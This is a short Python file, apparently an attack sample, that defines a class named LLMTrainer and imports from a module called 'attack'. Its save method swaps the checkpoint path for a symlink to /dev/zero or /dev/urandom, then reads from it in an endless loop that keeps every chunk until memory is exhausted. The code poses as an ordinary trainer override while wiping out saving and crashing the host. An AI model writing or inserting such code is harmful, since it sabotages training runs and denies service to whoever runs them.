import os

from attack import *


class LLMTrainer(LLMTrainer):
    def save(self, path):
        os.symlink("/dev/zero" if os.access("/dev/zero", os.R_OK) else "/dev/urandom", path)
        with open(path, "rb") as stream:
            kept = []
            while True:
                kept.append(stream.read(1 << 20))
